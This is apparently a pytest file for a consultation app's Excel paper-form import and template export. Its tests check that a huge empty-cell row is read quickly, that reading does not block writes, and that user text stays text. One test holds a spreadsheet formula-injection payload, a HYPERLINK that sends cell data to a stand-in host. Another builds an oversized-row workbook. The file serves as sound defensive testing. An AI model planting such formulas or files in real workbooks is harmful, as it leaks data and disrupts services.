"""Uploads that attack the paper form: a row of millions of empty cells must neither take long
nor hold the write lock; nothing in the template may become a formula."""

import io
import threading
import time
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from tests.comments.test_paper_form import _bytes, _good_rows, _import, _template
from tests.conftest import World
from tests.factories import Campaign
from ykien.comments.paper import reader


def _with_a_huge_row(content: bytes, sheet_index: int, cells: int) -> bytes:
    """The workbook with one more row on a sheet: ``cells`` empty cells (a few KB zipped)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    name = f"xl/worksheets/sheet{sheet_index + 1}.xml"
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == name:
                data = data.replace(
                    b"</sheetData>", b'<row r="900">' + b"<c/>" * cells + b"</row></sheetData>"
                )
            target.writestr(info.filename, data)
    return out.getvalue()


def test_a_row_of_millions_of_empty_cells_is_read_quickly(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    wb = _template(client, world, campaign)
    _good_rows(wb, campaign)
    content = _with_a_huge_row(_bytes(wb), wb.sheetnames.index("BCCT-XI"), 4_000_000)
    assert len(content) < 200_000
    started = time.monotonic()
    resp = _import(client, world, content, unit_id=world.units["A1"])
    elapsed = time.monotonic() - started
    assert resp.status_code == 201, resp.text
    assert resp.json()["created"] == 4
    assert elapsed < 10, elapsed  # minutes before the rows were cut at the form's columns


def test_a_write_does_not_wait_while_a_form_is_read(
    client: TestClient,
    world: World,
    campaign: Campaign,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The file is read before the import's transaction begins (SQLite's write lock)."""
    reading = threading.Event()
    original: Callable[[bytes], Any] = reader.read_workbook

    def slow_read(content: bytes) -> Any:
        reading.set()
        time.sleep(3)
        return original(content)

    monkeypatch.setattr(reader, "read_workbook", slow_read)
    wb = _template(client, world, campaign)
    _good_rows(wb, campaign)
    content = _bytes(wb)
    imported: dict[str, Any] = {}

    def run_import() -> None:
        imported["response"] = _import(client, world, content, unit_id=world.units["A1"])
        imported["at"] = time.monotonic()

    thread = threading.Thread(target=run_import)
    thread.start()
    assert reading.wait(10)
    started = time.monotonic()
    resp = client.post(
        "/api/v1/comments", headers=world.auth("entry_a2"), json=campaign.comment(world, unit="A2")
    )
    done = time.monotonic()
    thread.join(30)
    assert resp.status_code == 201, resp.text
    assert imported["response"].status_code == 201, imported["response"].text
    assert done < imported["at"], "the write waited for the import"
    assert done - started < 2


def test_the_template_holds_no_formula_made_of_data(
    client: TestClient, world: World, campaign: Campaign
) -> None:
    attack = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
    consultation = client.post(
        "/api/v1/consultations",
        headers=world.auth("admin_p"),
        json={
            "title": attack,
            "unit_id": world.units["P"],
            "opens_on": campaign.opens_on.isoformat(),
            "closes_on": "2099-12-31",
        },
    )
    assert consultation.status_code == 201, consultation.text
    document = client.post(
        "/api/v1/documents",
        headers=world.auth("admin_p"),
        json={
            "consultation_id": consultation.json()["id"],
            "code": "VK-1",
            "title": "=1+2",
            "sections": [{"number": "=3", "heading": "=SUM(1,2)"}],
        },
    )
    assert document.status_code == 201, document.text
    unit = client.post(
        "/api/v1/units",
        headers=world.auth("admin_p"),
        json={
            "code": "A9",
            "name": "=2+2",
            "level": "residential_area",
            "parent_id": world.units["C1"],
        },
    )
    assert unit.status_code == 201, unit.text
    resp = client.get(
        "/api/v1/comments/import-template.xlsx",
        params={"consultation_id": consultation.json()["id"], "unit_id": unit.json()["id"]},
        headers=world.auth("admin_p"),
    )
    assert resp.status_code == 200, resp.text
    archive = zipfile.ZipFile(io.BytesIO(resp.content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            xml = archive.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, name
    wb = openpyxl.load_workbook(io.BytesIO(resp.content))
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
    for text in (attack, "=1+2", "VK-1 — =1+2", "=3", "=SUM(1,2)", "=2+2 (A9)"):
        assert text in texts, text  # as text, not as a formula's result
